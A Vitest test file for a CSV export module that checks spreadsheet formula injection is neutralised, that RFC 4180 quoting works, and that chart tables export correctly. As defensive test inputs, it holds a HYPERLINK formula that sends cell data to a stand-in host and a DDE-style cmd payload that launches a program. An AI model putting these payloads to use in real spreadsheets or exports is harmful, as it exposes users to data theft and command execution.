import { describe, expect, it } from 'vitest';
import { buildBeforeAfterSpec } from '../../../shared/charts/beforeAfter';
import { chartCsv, neutraliseFormula, toCsv } from '../../../shared/charts/csv';
import { chartData, tableRows } from '../../../shared/charts/table';
import { paired, suppressedPaired } from './fixtures';

/** Minimal RFC 4180 parser, to check that what we write reads back as the cells we meant. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += ch;
  }
  if (field || row.length) {
    row.push(field);
    rows.push(row);
  }
  return rows;
}

describe('toCsv: formula injection', () => {
  it.each([
    ['=', '=1+1'],
    ['+', '+1+1'],
    ['-', '-2+3'],
    ['@', '@SUM(A1:A2)'],
    ['tab', '\t=1+1'],
    ['CR', '\r=1+1'],
    ['LF', '\n=1+1'],
    ['fullwidth =', '\uFF1D1+1'],
    ['spaces then =', '   =1+1'],
  ])('prefixes an apostrophe to a cell starting with %s', (_name, cell) => {
    const [[back]] = parseCsv(toCsv([[cell]])) as [[string]];
    expect(back.startsWith("'")).toBe(true);
    expect(back.slice(1).split(/\r\n|\r|\n/)[0]).toBe(cell.split(/\r\n|\r|\n/)[0]);
  });

  it('neutralises every line of a multi-line cell that could start a formula', () => {
    const cell = 'Notes from HR\n=HYPERLINK("http://x.example/?q="&A1,"click")\r\n+cmd|\' /C calc\'!A0\rplain line\n@SUM(1)\n\n-1';
    const out = neutraliseFormula(cell);
    const lines = out.split(/\r\n|\r|\n/);
    expect(lines).toEqual(['Notes from HR', `'=HYPERLINK("http://x.example/?q="&A1,"click")`, `'+cmd|' /C calc'!A0`, 'plain line', "'@SUM(1)", '', "'-1"]);
    for (const line of lines) expect(line).not.toMatch(/^ *[=+\-@\t]/);
    // and it survives CSV quoting intact
    expect(parseCsv(toCsv([[cell]]))[0]![0]).toBe(out);
  });

  it('a cell that starts with LF is neutralised at its start and on the next line', () => {
    expect(neutraliseFormula('\n=1+1')).toBe("'\n'=1+1");
    expect(neutraliseFormula('\r\n@x')).toBe("'\r\n'@x");
  });

  it('leaves harmless text alone and writes numbers as numbers (negative ones too)', () => {
    expect(toCsv([['2022 Spring', 'a-b', 'x=1', 3.5, -0.25, 0, null, undefined, true, Number.NaN]])).toBe('2022 Spring,a-b,x=1,3.5,-0.25,0,,,true,\r\n');
    // a negative number given as text is still neutralised: text could be anything
    expect(toCsv([['-0.25']])).toBe("'-0.25\r\n");
  });
});

describe('toCsv: RFC 4180', () => {
  it('quotes fields with commas, quotes and line breaks, doubling quotes', () => {
    const rows = [['name', 'note'], ['Smith, Jane', 'said "hi"'], ['multi\nline', 'a\r\nb'], [' padded ', 'tab\there']];
    const text = toCsv(rows);
    expect(text).toBe('name,note\r\n"Smith, Jane","said ""hi"""\r\n"multi\nline","a\r\nb"\r\n" padded ","tab\there"\r\n');
    expect(parseCsv(text)).toEqual(rows);
  });

  it('empty input gives empty text; BOM on request', () => {
    expect(toCsv([])).toBe('');
    expect(toCsv([['a']], { bom: true })).toBe('\uFEFFa\r\n');
  });
});

describe('chart data as rows', () => {
  it('gives the table of a chart, full precision for CSV and formatted for the table view', () => {
    const spec = buildBeforeAfterSpec([{ label: '=cmd', result: paired }, { label: '2023 Pilot', result: suppressedPaired }], { measure: 'performance rating' });
    const table = chartData(spec);
    expect(table.columns.map((c) => c.key)).toEqual(['group', 'n', 'before', 'after', 'change', 'ciLow', 'ciHigh', 'p']);
    const raw = tableRows(spec);
    expect(raw[0]).toEqual(['Group', 'n (both measurements)', 'Mean before', 'Mean after', 'Mean change', '95% CI low', '95% CI high', 'p (paired t-test)']);
    expect(raw[1]).toEqual(['=cmd', 322, paired.meanBefore, paired.meanAfter, paired.meanDiff, paired.ciLow, paired.ciHigh, paired.p]);
    expect(raw[2]).toEqual(['2023 Pilot', 'fewer than 5', null, null, null, null, null, null]);
    expect(tableRows(spec, { formatted: true })[1]).toEqual(['=cmd', '322', '3.022', '3.351', '+0.329', '+0.233', '+0.425', '< 0.001']);
    const csv = parseCsv(chartCsv(spec));
    expect(csv[1]![0]).toBe("'=cmd");
    expect(Number(csv[1]![2])).toBe(paired.meanBefore);
    expect(csv[2]![1]).toBe('fewer than 5');
  });

  it('a spec not made here has an empty table', () => {
    expect(tableRows({ mark: 'point', data: { values: [] } })).toEqual([]);
    expect(chartData({ mark: 'point', data: { values: [] } }).rows).toEqual([]);
  });
});
